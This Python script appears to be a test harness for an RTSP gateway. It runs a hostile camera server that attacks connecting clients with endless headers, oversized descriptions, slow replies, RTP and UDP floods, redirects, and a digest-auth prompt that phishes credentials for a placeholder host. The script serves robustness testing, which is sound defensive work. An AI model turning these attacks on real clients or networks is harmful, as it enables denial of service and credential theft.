#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 The Cordon authors
# SPDX-License-Identifier: Apache-2.0
"""Cameras that attack whoever calls them: hostile_camera.py ADDRESS ATTACK plays one attack at that address, port 554.

Prints "ready" once it listens. Each connection is attacked anew.
"""

import os
import re
import socket
import struct
import sys
import threading
import time

PORT = 554
ELSEWHERE = "10.77.200.200"  # nobody's address: a packet to it is a client that was led astray
CHUNK = 65536
FLOOD, BURST = 20_000, 100  # datagrams a second; pairs of them without a pause


def read_setup(connection):
    """The next request's method, CSeq and, where it asks for UDP, the port RTP shall go to."""
    head = b""
    while b"\r\n\r\n" not in head:
        data = connection.recv(4096)
        if not data:
            return None, "0", None
        head = head[-8192:] + data
    lines = head.decode("latin-1").split("\r\n")
    header = {name.strip().lower(): value.strip() for name, _, value in (line.partition(":") for line in lines[1:])}
    port = re.search(r"RTP/AVP(?:/UDP)?;.*client_port=(\d+)", header.get("transport", ""))
    return lines[0].split(" ")[0], header.get("cseq", "0"), int(port[1]) if port else None


def read_request(connection):
    """The next request's method and CSeq; none at the end of the connection."""
    method, sequence, _ = read_setup(connection)
    return method, sequence


def reply(sequence, status="200 OK", headers=(), body=b""):
    lines = [f"RTSP/1.0 {status}", f"CSeq: {sequence}", *headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", ""]).encode("latin-1") + body


def session_description(video="m=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\na=control:track1\r\n"):
    return f"v=0\r\no=- 1 1 IN IP4 {ELSEWHERE}\r\ns=x\r\nc=IN IP4 {ELSEWHERE}\r\nt=0 0\r\na=control:*\r\n{video}".encode()


def play_until_playing(connection, description=None):
    """An ordinary camera, up to and with the reply to PLAY."""
    while True:
        method, sequence = read_request(connection)
        if method is None:
            return False
        if method == "DESCRIBE":
            connection.sendall(reply(sequence, headers=["Content-Type: application/sdp"], body=description or session_description()))
        elif method == "SETUP":
            connection.sendall(reply(sequence, headers=["Session: 1", f"Transport: RTP/AVP/TCP;unicast;source={ELSEWHERE};interleaved=0-1"]))
        else:
            connection.sendall(reply(sequence, headers=["Session: 1", f"RTP-Info: url=rtsp://{ELSEWHERE}/x;seq=1;rtptime=1"]))
        if method == "PLAY":
            return True


def play_by_udp(connection):
    """An ordinary camera that sends by UDP alone, up to and with the reply to PLAY; a socket and where to send with it."""
    target = None
    while True:
        method, sequence, port = read_setup(connection)
        if method is None:
            return None, None
        if method == "DESCRIBE":
            connection.sendall(reply(sequence, headers=["Content-Type: application/sdp"], body=session_description()))
        elif method == "SETUP" and port is None:
            connection.sendall(reply(sequence, "461 Unsupported Transport"))
        elif method == "SETUP":
            target = (connection.getpeername()[0], port)
            connection.sendall(reply(sequence, headers=["Session: 1", f"Transport: RTP/AVP;unicast;source={ELSEWHERE};client_port={port}-{port + 1};"
                                                        "server_port=5000-5001"]))
        else:
            connection.sendall(reply(sequence, headers=["Session: 1"]))
        if method == "PLAY":
            sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sender.bind((connection.getsockname()[0], 0))
            return sender, target


def flood(connection, datagram):
    """Each number's datagram to both ports, FLOOD of them a second: twice the large ones that 100 Mbit/s carry. As fast as it goes, three
    such programs would take the processors that the gateway has, which an attacker in the field cannot."""
    sender, target = play_by_udp(connection)
    if sender is None:
        return
    with sender:
        sequence, due = 0, time.monotonic()
        while True:
            sequence = (sequence + 1) & 0xFFFF
            if sequence % BURST == 0:
                due = max(due + 2 * BURST / FLOOD, time.monotonic() - 1)
                time.sleep(max(0, due - time.monotonic()))
            for port in (target[1], target[1] + 1):
                sender.sendto(datagram(sequence), (target[0], port))


def udp_flood(connection):
    payload = b"\x7c\x05" + os.urandom(1400)
    flood(connection, lambda sequence: struct.pack(">BBHII", 0x80, 96, sequence, sequence, 7) + payload)


def udp_tiny_flood(connection):
    flood(connection, lambda sequence: b"\x80")


def udp_disorder(connection):
    """Packets of sources and numbers that never fit together."""
    flood(connection, lambda sequence: struct.pack(">BBHII", 0x80, 96, sequence * 30103 & 0xFFFF, sequence * 77777 & 0xFFFFFFFF, sequence % 5) + b"\x65\x88\x80")


def send_for_ever(connection, chunk):
    while True:
        connection.sendall(chunk)


def endless_header(connection):
    read_request(connection)
    connection.sendall(b"RTSP/1.0 200 OK\r\nX: ")
    send_for_ever(connection, b"A" * CHUNK)


def endless_headers(connection):
    read_request(connection)
    connection.sendall(b"RTSP/1.0 200 OK\r\n")
    send_for_ever(connection, b"X: y\r\n" * 8192)


def huge_content_length(connection):
    _, sequence = read_request(connection)
    connection.sendall(reply(sequence))
    _, sequence = read_request(connection)
    connection.sendall(f"RTSP/1.0 200 OK\r\nCSeq: {sequence}\r\nContent-Length: 4294967296\r\n\r\n".encode())
    send_for_ever(connection, b"v=0\r\n" * 8192)


def describe_with(connection, description):
    while True:
        method, sequence = read_request(connection)
        if method is None:
            return
        body = description if method == "DESCRIBE" else b""
        connection.sendall(reply(sequence, headers=["Content-Type: application/sdp", "Session: 1"], body=body))


def two_to_the_31_tracks(connection):
    """As many tracks as its limits let through, numbered as if there were 2^31."""
    tracks = "".join(f"m=video 0 RTP/AVP 96\r\na=control:track{2**31 + number}\r\n" for number in range(5000))
    describe_with(connection, session_description(tracks))


def description_bomb(connection):
    video = "m=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
    attributes = "".join(f"a=fmtp:96 sprop-parameter-sets={'A' * 900}\r\n" for _ in range(270))
    describe_with(connection, session_description(video + attributes))


def one_byte_a_second(connection):
    while True:
        _, sequence = read_request(connection)
        for byte in reply(sequence, headers=["Public: OPTIONS, DESCRIBE"]):
            connection.sendall(bytes([byte]))
            time.sleep(1)


def interleaved_garbage(connection):
    if play_until_playing(connection):
        send_for_ever(connection, os.urandom(CHUNK))


def rtp_flood(connection):
    if not play_until_playing(connection):
        return
    payload = b"\x7c\x05" + os.urandom(1400)  # the middle of a fragmented unit (RFC 6184 5.8)
    sequence = 0
    while True:
        packets = []
        for _ in range(64):
            sequence = (sequence + 1) & 0xFFFF
            packets.append(struct.pack(">BBHBBHII", 0x24, 0, 12 + len(payload), 0x80, 96, sequence, sequence, 7) + payload)
        connection.sendall(b"".join(packets))


def unit_without_end(connection):
    """One fragmented unit that begins and never ends."""
    if not play_until_playing(connection):
        return
    sequence = 0
    while True:
        head = b"\x7c\x85" if sequence == 0 else b"\x7c\x05"
        packet = struct.pack(">BBHII", 0x80, 96, sequence & 0xFFFF, 9, 7) + head + b"\x55" * 60000
        connection.sendall(struct.pack(">BBH", 0x24, 0, len(packet)) + packet)
        sequence += 1


def redirect(connection):
    while True:
        method, sequence = read_request(connection)
        if method is None:
            return
        connection.sendall(reply(sequence, "302 Found", [f"Location: rtsp://{ELSEWHERE}/stolen", "Connection: close"]))


def phishing(connection):
    """Asks for credentials in the name of another host, then sends whoever gave them there."""
    while True:
        method, sequence = read_request(connection)
        if method is None:
            return
        challenge = f'Digest realm="rtsp://{ELSEWHERE}/ log in there", nonce="{time.monotonic_ns()}", domain="rtsp://{ELSEWHERE}/"'
        connection.sendall(reply(sequence, "401 Unauthorized", [
            f"WWW-Authenticate: {challenge}", f"Location: rtsp://{ELSEWHERE}/", f"Content-Base: rtsp://{ELSEWHERE}/"]))


def elsewhere(connection):
    """Names another host wherever it can, and plays nothing."""
    while True:
        method, sequence = read_request(connection)
        if method is None:
            return
        headers = [f"Content-Base: rtsp://{ELSEWHERE}/a/", f"Content-Location: rtsp://{ELSEWHERE}/b", "Session: 1",
                   f"Transport: RTP/AVP;unicast;source={ELSEWHERE};server_port=5000-5001;interleaved=0-1"]
        body = session_description(f"m=video 0 RTP/AVP 96\r\nc=IN IP4 {ELSEWHERE}\r\na=rtpmap:96 H264/90000\r\n"
                                   f"a=control:rtsp://user:word@{ELSEWHERE}/track1\r\n") if method == "DESCRIBE" else b""
        connection.sendall(reply(sequence, headers=headers, body=body))


ATTACKS = {attack.__name__: attack for attack in (
    endless_header, endless_headers, huge_content_length, two_to_the_31_tracks, description_bomb, one_byte_a_second,
    interleaved_garbage, rtp_flood, unit_without_end, udp_flood, udp_tiny_flood, udp_disorder, redirect, phishing, elsewhere)}


def serve(connection, attack):
    with connection:
        try:
            attack(connection)
        except OSError:
            pass  # the client has had enough


def main():
    address, attack = sys.argv[1], ATTACKS[sys.argv[2]]
    with socket.create_server((address, PORT)) as server:
        print("ready", flush=True)
        while True:
            connection, _ = server.accept()
            threading.Thread(target=serve, args=(connection, attack), daemon=True).start()


if __name__ == "__main__":
    main()
